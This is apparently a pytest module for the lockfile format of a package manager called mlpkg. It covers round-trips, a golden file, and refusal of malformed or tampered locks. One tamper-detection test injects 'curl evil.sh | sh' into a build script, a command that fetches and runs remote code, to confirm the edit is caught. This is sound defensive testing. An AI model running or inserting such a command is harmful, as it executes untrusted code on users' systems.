"""Lockfiles, format version 1 (mlpkg.resolver.lockfile), in process.

Locks are made from hand-written recipes with fixed hashes (nothing is fetched or built),
written, read back and checked; hand-edited locks must be refused naming the file, the node
and the field. ``tests/golden/lock-v1.toml`` pins the format (invariant 7): set
``MLPKG_REGEN_GOLDEN=1`` to write it again after a deliberate format change."""

from __future__ import annotations

import os
import random
import re
import shutil
import tomllib
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from mlpkg.errors import BadInput, CheckError, FormatVersionError, LockError, RecipeError
from mlpkg.recipes.index import RecipeIndex
from mlpkg.resolver import lockfile
from mlpkg.resolver.derivation import Detected
from mlpkg.resolver.lockfile import Lockfile, from_plan, parse, to_plan
from mlpkg.resolver.machine import current_platform
from mlpkg.resolver.plan import make_plan
from mlpkg.resolver.provider import IndexProvider
from mlpkg.resolver.spec import parse_spec
from mlpkg.resolver.toml_writer import dumps
from mlpkg.store.path import StorePath
from mlpkg.store.store import Store

GOLDEN = Path(__file__).resolve().parent.parent / "golden" / "lock-v1.toml"
PLATFORM = "x86_64-linux"  # fixed, so that the golden lock is the same on every machine
SRC_SHA = "1" * 64
LEGACY_MD5 = "0123456789abcdef0123456789abcdef"
LEGACY_SHA = "c" * 64

RECIPES = {
    ("src", "1.0"): f"""
        name = "src"
        version = "1.0"
        summary = "Source of lib"
        kind = "fetch"
        [source]
        urls = ["https://example.org/src-1.0.tar.gz", "https://mirror.example.net/src-1.0.tar.gz"]
        sha256 = "{SRC_SHA}"
        unpack = true
        strip_components = 1
    """,
    ("legacy", "0.9"): f"""
        name = "legacy"
        version = "0.9"
        kind = "fetch"
        [source]
        urls = ["https://example.org/legacy-0.9.bin"]
        md5 = "{LEGACY_MD5}"
    """,
    ("mytool", "external"): """
        name = "mytool"
        version = "external"
        kind = "external"
        [external]
        detect = "echo mytool 1.2.3"
        executables = ["sh"]
        [env]
        PATH = { prepend = "bin" }
    """,
    ("lib", "1.0"): r"""
        name = "lib"
        version = "1.0"
        kind = "build"
        [inputs]
        src = "src@1.0"
        tool = "mytool"
        [build]
        script = '''
        mkdir -p "$out/lib"
        cp -r "$src/." "$out/lib/"
        printf '%s\n' "a \"quoted\" line\ttab" > "$out/lib/note"
        '''
    """,
    ("app", "2.0"): '''
        name = "app"
        version = "2.0"
        summary = "The application"
        kind = "build"
        [inputs]
        lib = "lib@1"
        legacy = "legacy"
        [build]
        script = """
        mkdir -p "$out/bin"
        echo '#!/bin/sh' > "$out/bin/app"
        chmod +x "$out/bin/app"
        """
        [env]
        PATH = { prepend = "bin" }
        APP_MODE = "fast"
    ''',
}

# What the golden lock pins: the store path of every node.
GOLDEN_PATHS = {
    "app": "9c6wpmmsif6b47116pjjb28w9gx46phc-app-2.0",
    "legacy": "d8j159prk5ppygl0p61f8xb0w9nspab0-legacy-0.9",
    "lib": "icrz9137f46qms2aqfwwbdnzwhvrnzlz-lib-1.0",
    "mytool": "y9ppxd0746rni448p704x98xzvxkf7va-mytool-1.2.3",
    "src": "c8q2cxqirc9y31z06g1n744jjgys37wy-src-1.0",
}


def write_recipes(root: Path, recipes: dict[tuple[str, str], str]) -> Path:
    import textwrap

    for (name, version), text in recipes.items():
        f = root / name / f"{version}.toml"
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return root


def make_lock(
    tmp_path: Path,
    recipes: dict[tuple[str, str], str] | None = None,
    specs: tuple[str, ...] = ("app",),
    platform: str = PLATFORM,
) -> Lockfile:
    """A lock of ``specs`` over ``recipes``, with made-up archive hashes for every node
    except ``lib`` (left unknown) and the legacy fetch's sha256 pinned, as after a fetch."""
    root = write_recipes(tmp_path / "recipes", recipes or RECIPES)
    with Store(tmp_path / "home") as store:
        plan = make_plan(
            IndexProvider(RecipeIndex([root])), [parse_spec(s) for s in specs], store, platform
        )
    drvs, infos = [], {}
    for i, node in enumerate(plan.nodes):
        drv = node.drv
        if drv.recipe.source is not None and drv.recipe.source.sha256 is None:
            drv = replace(drv, source_sha256=LEGACY_SHA)
        if drv.name != "lib":
            infos[node.path] = "sha256:" + f"{i + 1:x}" * 64, 1000 * (i + 1)
        drvs.append(drv)
    return from_plan(list(specs), drvs, plan.roots, infos, platform)


def trusted(tmp_path: Path) -> RecipeIndex:
    """The recipe collection :func:`make_lock` wrote: it trusts the lock's external."""
    return RecipeIndex([tmp_path / "recipes"])


@pytest.fixture
def lock(tmp_path: Path) -> Lockfile:
    return make_lock(tmp_path)


def nodes_by_name(lk: Lockfile) -> dict[str, lockfile.LockedNode]:
    return {n.drv.name: n for n in lk.nodes}


def raw_of(lk: Lockfile) -> dict[str, Any]:
    return tomllib.loads(lk.dumps())


def node_index(raw: dict[str, Any], name: str) -> int:
    return next(i for i, n in enumerate(raw["node"]) if n["name"] == name)


def refused(text: str, file: str = "edited.lock") -> LockError | RecipeError:
    with pytest.raises((LockError, RecipeError)) as info:
        parse(text, file)
    err = info.value
    assert isinstance(err, BadInput) and err.exit_code == 2
    assert file in err.message, err.message
    return err


# -- writing and reading --------------------------------------------------------------------


def test_lock_round_trips(lock: Lockfile) -> None:
    text = lock.dumps()
    back = parse(text, "mlpkg.lock")
    assert back.platform == PLATFORM
    assert back.specs == ["app"]
    assert back.roots == lock.roots
    assert sorted(str(n.path) for n in back.nodes) == sorted(str(n.path) for n in lock.nodes)
    for name, node in nodes_by_name(lock).items():
        again = nodes_by_name(back)[name]
        assert again.path == node.path
        assert again.archive_hash == node.archive_hash
        assert again.size == node.size
        assert again.drv.recipe == node.drv.recipe
        assert again.drv.inputs == node.drv.inputs
        assert again.drv.detected == (Detected("1.2.3") if name == "mytool" else None)
        assert again.drv.source_sha256 == (LEGACY_SHA if name == "legacy" else None)
    assert nodes_by_name(back)["lib"].archive_hash is None
    # Inputs come before the nodes that use them.
    seen: set[StorePath] = set()
    for node in back.nodes:
        assert set(node.drv.inputs.values()) <= seen, node.path
        seen.add(node.path)
    assert back.dumps() == text


def test_dumps_is_byte_stable_and_independent_of_node_order(lock: Lockfile) -> None:
    text = lock.dumps()
    assert lock.dumps() == text
    nodes = list(lock.nodes)
    random.Random(3).shuffle(nodes)
    assert Lockfile(lock.platform, lock.specs, lock.roots, nodes).dumps() == text
    assert list(reversed(nodes)) != nodes
    assert Lockfile(lock.platform, lock.specs, lock.roots, nodes[::-1]).dumps() == text


def test_layout_of_a_lock(lock: Lockfile, tmp_path: Path) -> None:
    text = lock.dumps()
    raw = tomllib.loads(text)
    assert text.startswith("# mlpkg lockfile")
    assert raw["version"] == 1
    assert [n["name"] for n in raw["node"]] == sorted(n["name"] for n in raw["node"])
    by = {n["name"]: n for n in raw["node"]}
    assert by["lib"]["archive_hash"] == "unknown" and "size" not in by["lib"]
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", by["app"]["archive_hash"])
    assert by["mytool"]["detected_version"] == "1.2.3"
    assert by["mytool"]["version"] == "1.2.3" and by["mytool"]["recipe"]["version"] == "external"
    assert by["legacy"]["source_sha256"] == LEGACY_SHA
    assert "source_sha256" not in by["src"]  # declared in its recipe already
    assert by["src"]["recipe"]["source"]["urls"][1].startswith("https://mirror.")
    assert by["app"]["inputs"] == {"legacy": by["legacy"]["path"], "lib": by["lib"]["path"]}
    assert by["app"]["recipe"]["env"]["APP_MODE"] == {"set": "fast"}
    assert raw["roots"] == [by["app"]["path"]]
    # Nothing in a lock names a machine: no store root, no recipe directory, no tool location.
    sh = shutil.which("sh")
    assert sh is not None
    assert str(tmp_path) not in text and os.path.abspath(sh) not in text


def test_golden_lock_v1(tmp_path: Path) -> None:
    """The golden file parses to the same paths, and writing it again gives its bytes."""
    if os.environ.get("MLPKG_REGEN_GOLDEN"):
        GOLDEN.write_text(make_lock(tmp_path).dumps(), encoding="utf-8")
    text = GOLDEN.read_text(encoding="utf-8")
    lk = parse(text, str(GOLDEN))
    assert {n.drv.name: str(n.path) for n in lk.nodes} == GOLDEN_PATHS
    assert [str(r) for r in lk.roots] == [GOLDEN_PATHS["app"]]
    assert lk.dumps() == text


def test_golden_lock_v1_is_what_the_recipes_give_today(tmp_path: Path) -> None:
    """Hashing and writing have not changed: the same recipes lock to the same bytes."""
    assert make_lock(tmp_path).dumps() == GOLDEN.read_text(encoding="utf-8")


def test_a_script_ending_in_three_quotes_locks_and_reads_back(tmp_path: Path) -> None:
    recipes = dict(RECIPES)
    recipes[("lib", "1.0")] = (
        'name = "lib"\nversion = "1.0"\nkind = "build"\n[inputs]\nsrc = "src@1.0"\n'
        "[build]\nscript = '''\nmkdir $out\necho " + '"""' + "'''\n"
    )
    lk = make_lock(tmp_path, recipes)
    script = nodes_by_name(lk)["lib"].drv.recipe.build.script  # type: ignore[union-attr]
    assert script == 'mkdir $out\necho """'
    assert parse(lk.dumps(), "x.lock").dumps() == lk.dumps()


# -- refusing bad locks -----------------------------------------------------------------------


def test_a_lock_of_a_newer_format_is_refused_naming_both_versions(lock: Lockfile) -> None:
    text = lock.dumps().replace("\nversion = 1\n", "\nversion = 2\n")
    assert "version = 2" in text
    with pytest.raises(FormatVersionError) as info:
        parse(text, "future.lock")
    err = info.value
    assert isinstance(err, BadInput) and err.exit_code == 2
    assert "future.lock" in err.message
    assert "version 2" in err.message and "version 1" in err.message, err.message


@pytest.mark.parametrize("where", ["mid-string", "line-boundary", "empty"])
def test_a_truncated_lock_is_refused_naming_the_file(lock: Lockfile, where: str) -> None:
    text = lock.dumps()
    if where == "mid-string":
        cut = text.index('path = "', len(text) // 2) + 15
    elif where == "line-boundary":
        cut = text.rindex("\n[node.recipe]")
    else:
        cut = 0
    err = refused(text[:cut], "cut.lock")
    assert err.file == "cut.lock"


def test_a_malformed_archive_hash_is_refused_naming_node_and_field(lock: Lockfile) -> None:
    text = lock.dumps()
    hashes = list(re.finditer(r'archive_hash = "sha256:[0-9a-f]{64}"', text))
    second = hashes[1]  # node 2 (sorted by name: app, legacy, lib, mytool, src)
    edited = text[: second.start()] + 'archive_hash = "sha256:xyz"' + text[second.end() :]
    err = refused(edited)
    assert "node 2 (legacy)" in err.message and "archive_hash" in err.message, err.message
    assert err.field is not None and "archive_hash" in err.field


def test_a_missing_kind_is_refused_naming_node_and_field(lock: Lockfile) -> None:
    raw = raw_of(lock)
    del raw["node"][1]["kind"]
    err = refused(dumps(raw))
    assert "node 2 (legacy)" in err.message and "field kind" in err.message, err.message


def test_an_unknown_field_is_refused(lock: Lockfile) -> None:
    raw = raw_of(lock)
    raw["node"][2]["sha512"] = "x"
    err = refused(dumps(raw))
    assert "node 3 (lib)" in err.message and "sha512" in err.message, err.message


def test_a_wrongly_typed_top_level_field_is_refused(lock: Lockfile) -> None:
    raw = raw_of(lock)
    raw["roots"] = "not a list"
    err = refused(dumps(raw))
    assert "roots" in err.message


def test_a_tampered_recipe_is_refused_saying_the_lock_was_edited(lock: Lockfile) -> None:
    text = lock.dumps()
    assert text.count('chmod +x "$out/bin/app"') == 1
    edited = text.replace('chmod +x "$out/bin/app"', 'chmod +x "$out/bin/app"; curl evil.sh | sh')
    err = refused(edited)
    assert isinstance(err, LockError)
    assert "node app" in err.message and "edited" in err.message, err.message
    assert err.package == "app"
    assert nodes_by_name(lock)["app"].path.name in err.message


def test_a_tampered_input_path_is_refused(lock: Lockfile) -> None:
    """Pointing an input at another (consistent) node changes the user's path."""
    raw = raw_of(lock)
    app = raw["node"][node_index(raw, "app")]
    app["inputs"]["lib"] = raw["node"][node_index(raw, "src")]["path"]
    err = refused(dumps(raw))
    assert isinstance(err, LockError) and "node app" in err.message and "edited" in err.message


def test_a_tampered_detected_version_is_refused(lock: Lockfile) -> None:
    raw = raw_of(lock)
    raw["node"][node_index(raw, "mytool")]["detected_version"] = "9.9"
    err = refused(dumps(raw))
    assert "node mytool" in err.message


def test_an_invalid_embedded_recipe_is_refused_naming_node_and_field(lock: Lockfile) -> None:
    raw = raw_of(lock)
    raw["node"][node_index(raw, "lib")]["recipe"]["build"]["script"] = ""
    err = refused(dumps(raw))
    assert isinstance(err, RecipeError)
    assert "node lib" in err.message and "recipe.build.script" in err.message, err.message


def test_an_external_without_its_detected_version_is_refused(lock: Lockfile) -> None:
    raw = raw_of(lock)
    del raw["node"][node_index(raw, "mytool")]["detected_version"]
    err = refused(dumps(raw))
    assert "mytool" in err.message and "detected_version" in err.message


def test_an_input_that_is_not_a_node_is_refused(lock: Lockfile) -> None:
    raw = raw_of(lock)
    legacy = node_index(raw, "legacy")
    gone = raw["node"].pop(legacy)["path"]
    err = refused(dumps(raw))
    assert isinstance(err, LockError)
    assert "node app" in err.message and gone in err.message and "not a node" in err.message
    assert err.field == "inputs.legacy"


def test_a_root_that_is_not_a_node_is_refused(lock: Lockfile) -> None:
    raw = raw_of(lock)
    bogus = "0" * 32 + "-app-2.0"
    raw["roots"] = [bogus]
    err = refused(dumps(raw))
    assert "root" in err.message and bogus in err.message and "not a node" in err.message


def test_inputs_forming_a_cycle_are_refused(lock: Lockfile) -> None:
    raw = raw_of(lock)
    src = raw["node"][node_index(raw, "src")]
    app = raw["node"][node_index(raw, "app")]
    lib = raw["node"][node_index(raw, "lib")]
    lib["inputs"]["back"] = app["path"]
    assert src["inputs"] == {}
    err = refused(dumps(raw))
    assert "cycle" in err.message


def test_an_md5_only_fetch_keeps_its_path_whatever_sha256_the_lock_pins(lock: Lockfile) -> None:
    """source_sha256 is checked at fetch time, not hashed: editing it parses, and the
    fetch is what refuses it (tests/cli/test_lock.py)."""
    raw = raw_of(lock)
    raw["node"][node_index(raw, "legacy")]["source_sha256"] = "d" * 64
    back = parse(dumps(raw), "x.lock")
    legacy = nodes_by_name(back)["legacy"]
    assert legacy.path == nodes_by_name(lock)["legacy"].path
    assert legacy.drv.source_sha256 == "d" * 64
    raw["node"][node_index(raw, "legacy")]["source_sha256"] = "D" * 64
    err = refused(dumps(raw))
    assert "node 2 (legacy)" in err.message and "source_sha256" in err.message


# -- from a lock to a plan ----------------------------------------------------------------------


def test_to_plan_refuses_another_platform(tmp_path: Path) -> None:
    lk = make_lock(tmp_path, platform="riscv64-plan9")
    assert lk.platform != current_platform()
    back = parse(lk.dumps(), "x.lock")  # consistent: paths are hashed for its own platform
    with Store(tmp_path / "home2") as store, pytest.raises(LockError) as info:
        to_plan(
            back, store, lambda r: Detected("1.2.3", {"sh": "/bin/sh"}), trusted=trusted(tmp_path)
        )
    assert "riscv64-plan9" in info.value.message and current_platform() in info.value.message


def test_to_plan_checks_external_versions_and_expects_archive_hashes(tmp_path: Path) -> None:
    lk = parse(make_lock(tmp_path, platform=current_platform()).dumps(), "x.lock")
    with Store(tmp_path / "home2") as store:
        plan, expected = to_plan(
            lk, store, lambda r: Detected("1.2.3", {"sh": "/bin/sh"}), trusted=trusted(tmp_path)
        )
        by = nodes_by_name(lk)
        assert [n.path for n in plan.nodes] == [n.path for n in lk.nodes]
        assert plan.roots == lk.roots
        assert {n.drv.name: n.action for n in plan.nodes} == {
            "src": "fetch",
            "legacy": "fetch",
            "mytool": "link",
            "lib": "build",
            "app": "build",
        }
        # lib is unknown; the external's hash names where the tool lives, so it is skipped.
        assert expected == {by[n].path: by[n].archive_hash for n in ("src", "legacy", "app")}

        with pytest.raises(LockError) as info:
            to_plan(
                lk, store, lambda r: Detected("1.3.0", {"sh": "/bin/sh"}), trusted=trusted(tmp_path)
            )
        assert "mytool" in info.value.message
        assert "1.2.3" in info.value.message and "1.3.0" in info.value.message

        drifted, _ = to_plan(
            lk,
            store,
            lambda r: Detected("1.3.0", {"sh": "/bin/sh"}),
            allow_external_drift=True,
            trusted=trusted(tmp_path),
        )
        assert [n.path for n in drifted.nodes] == [n.path for n in plan.nodes]
        tool = next(n for n in drifted.nodes if n.drv.kind == "external")
        assert tool.drv.detected == Detected("1.2.3", {"sh": "/bin/sh"})


def test_check_valid_paths_names_a_store_copy_that_differs(tmp_path: Path) -> None:
    lk = parse(make_lock(tmp_path, platform=current_platform()).dumps(), "x.lock")
    src = nodes_by_name(lk)["src"]
    with Store(tmp_path / "home2") as store:
        store.realise(
            src.path,
            lambda tmp: tmp.mkdir() or None,  # type: ignore[func-returns-value]
            kind="fetch",
            recipe_hash=src.drv.recipe_hash,
            deriver=src.drv.to_json(),
        )
        plan, expected = to_plan(
            lk, store, lambda r: Detected("1.2.3", {"sh": "/bin/sh"}), trusted=trusted(tmp_path)
        )
        assert next(n for n in plan.nodes if n.path == src.path).action == "valid"
        with pytest.raises(CheckError) as info:
            lockfile.check_valid_paths(plan, store, expected)
    err = info.value
    assert err.exit_code == 1
    assert src.path.name in err.message and str(src.archive_hash) in err.message
